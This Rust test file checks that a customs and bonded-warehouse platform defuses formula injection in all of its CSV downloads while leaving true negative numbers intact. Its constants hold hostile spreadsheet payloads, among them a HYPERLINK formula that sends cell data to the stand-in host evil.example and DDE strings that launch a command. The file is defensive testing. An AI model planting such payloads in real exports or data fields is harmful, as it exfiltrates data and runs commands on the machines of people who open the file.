//! Formula injection in downloads (issue #14, finding 5): a value that a
//! spreadsheet would take for a formula — a commodity named `=1+2` or
//! `=HYPERLINK(…)`, a seller beginning with `+`, goods beginning with `@` —
//! comes out of every CSV the platform writes behind a `'` and quoted
//! (OWASP, "CSV Injection"), while real negative numbers (a book's
//! adjustment of -1.5) stay numbers. Every route that writes CSV: the
//! filing export, the purchase record (API and portal), the bonded monthly
//! report and the portal's stock download. Both backends.

use kuajing_ceb::sample::Parcel;
use kuajing_testkit::dual_backend_tests;
use reqwest::{Method, StatusCode};
use serde_json::json;

use crate::purchase_records::export_list;
use crate::support::{TestApp, header, honey, id_of, json, send, spawn};

const SUM: &str = "=1+2";
const LINK: &str = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"详情\")";
const AT: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const PLUS: &str = "+86 433 7512345";
const MINUS: &str = "-2+3+cmd|' /C calc'!A0";

/// The cells of a CSV answer as a spreadsheet reads them.
async fn cells(response: reqwest::Response) -> (String, Vec<Vec<String>>) {
    assert_eq!(response.status(), StatusCode::OK);
    assert!(header(&response, "content-type").starts_with("text/csv"));
    let text = response.text().await.unwrap();
    let rows = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    (text, rows)
}

/// No cell begins like a formula unless it is a plain negative number, and
/// each of `hostile` is there, neutralised, in a quoted cell.
fn neutralised(text: &str, rows: &[Vec<String>], hostile: &[&str]) {
    let plain_negative = |cell: &str| {
        cell.strip_prefix('-').is_some_and(|n| {
            !n.is_empty()
                && n.split('.')
                    .all(|p| !p.is_empty() && p.bytes().all(|b| b.is_ascii_digit()))
        })
    };
    for cell in rows.iter().flatten() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']) || plain_negative(cell),
            "a formula cell {cell:?} in {text}"
        );
    }
    for value in hostile {
        let written = format!("'{value}");
        assert!(
            rows.iter().flatten().any(|c| *c == written),
            "{value} not neutralised in {text}"
        );
        let quoted = format!("\"{}\"", written.replace('"', "\"\""));
        assert!(text.contains(&quoted), "{quoted} not quoted in {text}");
    }
}

/// Opens the example book of [`Parcel::BOOK`] with one line of `goods_name`,
/// enters 10 and adjusts by -1.5: the warehouse's token.
async fn book_with(app: &TestApp, goods_name: &str) -> String {
    let token = app.member(Parcel::WAREHOUSE, &["warehouse"]).await;
    let book = json!({"ems_no": Parcel::BOOK, "zone_code": "2991", "name": "珲春综合保税仓"});
    json(
        app.post_json(&token, "/api/ems/books", &book).await,
        StatusCode::CREATED,
    )
    .await;
    let path = |tail: &str| format!("/api/ems/books/{}{tail}", Parcel::BOOK);
    let line = json!({"item_no": Parcel::ITEM, "hs_code": "0409000000", "goods_name": goods_name,
        "unit": Parcel::UNIT, "currency": "142", "unit_value": "168.00"});
    json(
        app.post_json(&token, &path("/lines"), &line).await,
        StatusCode::CREATED,
    )
    .await;
    for movement in [
        json!({"item_no": Parcel::ITEM, "kind": "first-line-in", "quantity": "10", "unit": Parcel::UNIT,
            "reference": "进境备案清单 QD2991260001"}),
        json!({"item_no": Parcel::ITEM, "kind": "adjustment", "quantity": "-1.5", "unit": Parcel::UNIT,
            "reference": "盘点 2026-01", "reason": "破损销毁", "approved_by": "王海关"}),
    ] {
        json(
            app.post_json(&token, &path("/movements"), &movement).await,
            StatusCode::CREATED,
        )
        .await;
    }
    token
}

dual_backend_tests! {
    async fn the_filing_export_neutralises_formula_names(db: TestDatabase) {
        let app = spawn(&db).await;
        let owner = app.enterprise().await;
        for (item_no, name) in [("F-1", SUM), ("F-2", LINK), ("F-3", MINUS)] {
            let mut filing = honey(item_no);
            filing["name"] = json!(name);
            id_of(&app.file_commodity(&owner, &filing).await);
        }
        let response = send(app.api(Method::GET, "/api/filings/export?format=csv&kind=commodity", &owner)).await;
        let (text, rows) = cells(response).await;
        assert_eq!(rows.len(), 4, "the header and three filings: {text}");
        neutralised(&text, &rows, &[SUM, LINK, MINUS]);
    }

    async fn the_purchase_record_files_neutralise_formulas(db: TestDatabase) {
        let app = spawn(&db).await;
        let exporter = app.member("2224960001", &["ebc"]).await;
        app.add_user("2224960001", "seller").await;
        export_list(&app, "2224960001", "22242026I000000001", "800").await;
        let purchase = json!({"purchase_date": "2026-10-31", "goods_name": AT, "unit": "035",
            "quantity": "2.5", "unit_price": "3.33", "amount": "8.33", "seller": PLUS,
            "invt_nos": ["22242026I000000001"]});
        json(app.post_json(&exporter, "/api/purchase-records", &purchase).await, StatusCode::CREATED).await;

        let api = send(app.api(Method::GET, "/api/purchase-records?month=2026-10&format=csv", &exporter)).await;
        let (text, rows) = cells(api).await;
        neutralised(&text, &rows, &[AT, PLUS]);
        assert!(text.contains(",035,2.5,3.33,8.33,"), "numbers and codes as before: {text}");
        let browser = app.signed_in("seller").await;
        let (text, rows) = cells(browser.get("/purchase-records/export?format=csv&month=2026-10").await).await;
        neutralised(&text, &rows, &[AT, PLUS]);
    }

    async fn the_bonded_report_and_stock_files_neutralise_formulas_and_keep_negative_numbers(db: TestDatabase) {
        let app = spawn(&db).await;
        let warehouse = book_with(&app, LINK).await;
        let month = kuajing_core::timestamp::Timestamp::now().in_china().date();
        let month = format!("{:04}-{:02}", month.year(), u8::from(month.month()));
        let path = format!("/api/ems/books/{}/reports/{month}?format=csv", Parcel::BOOK);
        let (text, rows) = cells(send(app.api(Method::GET, &path, &warehouse)).await).await;
        neutralised(&text, &rows, &[LINK]);
        let adjusted = rows[0].iter().position(|c| c == "adjusted").unwrap();
        assert_eq!(rows[1][adjusted], "-1.5", "{text}");
        assert!(text.contains(",-1.5,"), "a negative number is written bare: {text}");

        app.add_user(Parcel::WAREHOUSE, "keeper").await;
        let browser = app.signed_in("keeper").await;
        let stock = browser.get(&format!("/bonded/{}/export?format=csv", Parcel::BOOK)).await;
        let (text, rows) = cells(stock).await;
        neutralised(&text, &rows, &[LINK]);
        assert!(text.contains(",8.5,"), "the stock left, a number: {text}");
    }
}
